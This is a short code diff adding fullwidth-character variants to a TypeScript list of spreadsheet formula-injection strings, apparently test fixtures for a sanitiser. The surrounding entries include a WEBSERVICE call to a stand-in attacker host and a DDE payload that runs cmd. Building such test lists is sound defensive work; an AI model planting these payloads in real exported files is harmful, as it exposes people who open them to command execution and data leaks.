@@ -52,4 +52,6 @@ export const formulas: readonly string[] = [
   '=1+1;planted',
   '=WEBSERVICE("http://evil.example/planted")',
   "-2+3+cmd|' /C calc'!planted",
+  '\uff1d1+1 planted',
+  '\uff20SUM(planted)',
 ];
